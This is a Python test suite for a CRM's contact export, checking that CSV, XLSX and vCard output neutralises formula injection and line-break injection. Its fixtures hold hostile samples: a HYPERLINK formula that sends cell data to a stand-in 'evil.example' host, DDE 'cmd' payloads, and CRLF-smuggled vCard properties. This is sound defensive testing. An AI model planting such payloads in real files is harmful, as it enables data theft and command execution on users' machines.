"""Issue 21 item 6: exports carry no formulas.  XLSX cells are strings; CSV cells starting with a
formula trigger are neutralised per OWASP's CSV-injection guidance (and read back unchanged by our
own import); vCard values cannot break out of their line."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

from hypothesis import given
from hypothesis import strategies as st

from mailcrm.transfer.export import ExportContact, export_contacts, neutralise_csv, to_csv, to_vcard
from mailcrm.transfer.sheets import csv_cell, read_file

EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
EVIL_COMPANY = "=cmd|' /C calc'!A0 LLC"
TRIGGERS = ["+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", " =1+1"]


def contacts() -> list[ExportContact]:
    """One contact per hostile value, and one harmless control."""
    out = [ExportContact(1, EVIL_NAME, EVIL_COMPANY, "=1+1", ["+7 999 123-45-67"], "@city", "=x", "-note",
                         ["evil@example.com"], ["=tag"])]
    for n, value in enumerate(TRIGGERS, start=2):
        out.append(ExportContact(n, "Ann Lee", value, None, [], None, None, None, [f"a{n}@example.com"]))
    out.append(ExportContact(99, "Anna Smirnova", "ACME - East", None, [], None, None, None, ["anna@example.com"]))
    return out


def test_csv_cells_never_start_with_a_formula_trigger() -> None:
    rows = list(csv.reader(io.StringIO(to_csv(contacts()))))
    for row in rows[1:]:
        for cell in row:
            first = cell.lstrip(" ")[:1]
            assert first not in ("=", "+", "-", "@", "\t", "\r"), row
    evil = rows[1]
    assert evil[3] == "'" + EVIL_COMPANY and evil[4] == "'=tag"
    assert evil[1] == "'" + EVIL_NAME  # not a person's name: kept whole as the first name
    companies = [r[3] for r in rows[2:-1]]
    assert companies == ["'" + v for v in TRIGGERS]
    assert rows[-1][3] == "ACME - East"  # a dash inside a value is left alone


def test_csv_export_round_trips_through_import(tmp_path: Path) -> None:
    out = tmp_path / "c.csv"
    export_contacts(contacts(), "csv", out)
    rows, bad = read_file(out)
    assert not bad
    by_email = {r.emails[0]: r for r in rows}
    assert by_email["evil@example.com"].company == EVIL_COMPANY
    assert by_email["a3@example.com"].company == "-2+3"


def test_xlsx_cells_are_strings_not_formulas(tmp_path: Path) -> None:
    import openpyxl

    out = tmp_path / "c.xlsx"
    hostile = contacts()
    hostile.append(ExportContact(100, "Ctl\x01Char", "x\x00y", None, [], None, None, None, ["c@example.com"]))
    export_contacts(hostile, "xlsx", out)
    with zipfile.ZipFile(out) as z:
        sheets = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/")]
    assert sheets and not any("<f>" in x or "<f " in x for x in sheets)  # no formula element anywhere
    wb = openpyxl.load_workbook(out)
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    assert all(c.data_type == "s" for c in cells)
    values = {c.value for c in cells}
    assert EVIL_NAME in values and EVIL_COMPANY in values and "+7 999 123-45-67" in values
    assert "CtlChar" in values


def test_vcard_values_cannot_start_a_property() -> None:
    card = to_vcard([ExportContact(1, "Ann\rEMAIL:evil@example.net", "Co\r\nX-EVIL:1", None,
                                   ["+7999;X\r\nURL:http://evil.example"], None, None, "n\x0bote",
                                   ["ann@example.com"])])
    lines = card.split("\r\n")
    names = [ln.split(":", 1)[0].split(";", 1)[0] for ln in lines if ln and not ln.startswith(" ")]
    assert "EMAIL" in names and names.count("EMAIL") == 1 and "X-EVIL" not in names and "URL" not in names
    assert "\r" not in card.replace("\r\n", "") and "\x0b" not in card
    assert "TEL;VALUE=uri:tel:+7999" in card


@given(st.text(alphabet=st.sampled_from("'  =+-@\t\r\nab\uff1d"), max_size=12) | st.text(max_size=40))
def test_neutralised_cells_are_safe_and_reversible(value: str) -> None:
    safe = neutralise_csv(value)
    assert safe.lstrip(" ")[:1] not in ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d")
    assert csv_cell(safe) == value
